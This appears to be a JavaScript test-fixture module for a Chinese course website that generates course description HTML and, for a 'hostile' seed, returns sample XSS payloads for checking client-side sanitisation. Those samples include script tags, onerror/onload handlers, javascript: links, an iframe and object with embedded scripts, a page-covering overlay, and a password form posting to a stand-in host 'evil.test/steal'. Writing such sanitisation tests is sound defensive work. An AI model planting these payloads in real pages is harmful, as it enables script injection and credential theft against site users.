// @ts-check

/**
 * Inert samples of what an administrator could paste; the client has to filter them (screens 1.20.1, 2.6 check 6).
 * Anything that runs would set `window.__hostile`, which tests look for.
 */
const hostileHtml = `<h2>课程介绍</h2>
<p>下面的例子看起来是普通内容，但不应该被执行。</p>
<script>window.__hostile = 'script'</script>
<p><img src="/demo-covers/no-such-picture.svg" onerror="window.__hostile = 'onerror'" alt="不存在的图片"></p>
<p><a href="javascript:window.__hostile='link'">看起来正常的链接</a>，<a href="https://example.com/safe">真正正常的链接</a>，<a href="/course/1">站内课程</a></p>
<form action="https://evil.test/steal" method="post"><input name="password" placeholder="请重新输入密码"><button>提交</button></form>
<iframe src="https://evil.test/frame" srcdoc="<script>parent.__hostile='frame'</script>"></iframe>
<div style="position:fixed;inset:0;background:red;z-index:99999" onclick="window.__hostile='click'">盖住整个页面的层</div>
<svg onload="window.__hostile='svg'"><a xlink:href="javascript:window.__hostile='xlink'"><text x="0" y="15">图形里的链接</text></a></svg>
<object data="data:text/html,<script>parent.__hostile='object'</script>"></object>
<p style="color:#000">黑色的文字在深色模式里也应该能看清。</p>`

/** @param {import('./plan.mjs').CourseSeed} seed */
export const describeCourse = (seed) => {
  if (seed.hostile === true) return hostileHtml
  const chapters = seed.plan
    .map((part) => ({
      title: part.slice(0, part.indexOf('：')),
      lessons: part
        .slice(part.indexOf('：') + 1)
        .split('|')
        .filter((text) => text !== '').length,
    }))
    .filter((chapter) => chapter.title !== '')
  const rows = chapters.map((chapter) => `<tr><td>${chapter.title}</td><td>${chapter.lessons}</td></tr>`).join('')
  const table =
    rows === ''
      ? ''
      : `<h3>课程安排</h3><table border="1"><thead><tr><th>章节</th><th>课时</th></tr></thead><tbody>${rows}</tbody></table>`
  const picture =
    seed.cover === ''
      ? ''
      : `<p><img src="/demo-covers/${seed.cover}" alt="课程示意图" width="400" height="300"></p><p><em>示意图：课程中完成的一个作品。</em></p>`
  return `<h2>这门课解决什么问题</h2><p>${seed.short}课程按“先看例子，再动手，最后总结”的顺序进行，每节课只解决一个问题，学完立刻能用。</p><h3>你将完成</h3><ul>${seed.gains.map((gain) => `<li>${gain}</li>`).join('')}</ul>${picture}${table}<h3>适合谁</h3><p>${seed.who}</p><blockquote><p>遇到不明白的地方，欢迎在评论区提问，讲师每周三集中回复。</p></blockquote><p>更多课程见 <a href="/courses">全部课程</a>。</p>`
}
